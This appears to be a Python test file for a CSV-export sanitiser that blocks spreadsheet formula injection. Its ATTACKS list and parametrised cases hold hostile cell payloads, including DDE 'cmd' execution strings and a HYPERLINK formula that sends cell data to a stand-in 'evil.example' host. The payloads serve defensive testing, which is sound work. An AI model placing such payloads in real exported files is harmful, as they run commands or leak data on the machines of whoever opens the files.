"""A text that somebody typed is never executed by the spreadsheet of somebody else."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.lists.exporting.harmless import harmless, is_risky

SIGNS = "=+-@＝＋－＠"
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+A1",
    "－A1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "+A1",
    "-A1",
    "-(1)",
    "+1+A1",
    "=",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_begins_a_formula(text: str) -> None:
    assert not begins_formula(harmless(text))
    assert harmless(text).replace("'", "") == text.replace("'", ""), "nothing is lost"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|", "\r\n"])
@pytest.mark.parametrize("attack", ["=cmd|' /C calc'!A0", "@SUM(A1)", '"=A1', "  ＝A1", "-A1"])
def test_nor_does_one_that_another_separator_makes(separator: str, attack: str) -> None:
    """A file with commas that a Russian spreadsheet opens is split at semicolons, quotes or not."""
    written = harmless(f"harmless{separator}{attack}")
    for piece in written.split(separator):
        assert not begins_formula(piece), written


@pytest.mark.parametrize(
    "text",
    [
        "plain",
        "",
        "a=b",
        "x + y",
        "me@example.org",
        "-5",
        "-5.50",
        "-1 234,50",
        "+79001234567",
        "+7 (900) 123-45-67",
        *["Smith; +7 900 123 45 67", "1-2", "-5%", "Ünïcode — dash", "a\nb", "10:30"],
    ],
)
def test_what_executes_nothing_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", ["\tplain", "\rplain", "\nplain"])
def test_a_text_that_begins_with_a_control_is_marked(text: str) -> None:
    assert harmless(text) == f"'{text}"


def begins_formula(cell: str) -> bool:
    """Judge a cell independently of the code: its first visible character that is not a quote mark of CSV."""
    visible = "".join(
        c for c in cell if c.isprintable() and not c.isspace() and c not in "\u00ad\u200b\ufeff"
    ).lstrip('"')
    return visible.startswith(tuple(SIGNS)) and not visible[1:].replace(".", "").isdigit()


@given(st.text(alphabet=st.sampled_from("=+-@＝＠;,|\t\r\n\"' aA1(.\u200b")))
def test_whatever_is_typed_no_separator_makes_a_formula(text: str) -> None:
    for separator in ",;|\t\r\n":
        for piece in harmless(text).split(separator):
            assert not piece.lstrip(" \"'\u200b").startswith(("=", "@", "＝", "＠")) or "'" in piece


@given(st.text())
def test_doing_it_twice_changes_nothing_more_than_once_for_what_was_harmless(text: str) -> None:
    once = harmless(text)
    if once == text:
        assert harmless(once) == once
    assert is_risky(text) is False or once != text


def test_a_long_text_is_no_attack_on_the_clock() -> None:
    began = time.process_time()
    for hostile in [
        " " * 200_000,
        "\t" * 200_000,
        ";" * 200_000,
        "'" * 200_000 + "x",
        "+" + "1" * 200_000 + "x",
    ]:
        harmless(hostile)
        is_risky(hostile)
    assert time.process_time() - began < 5
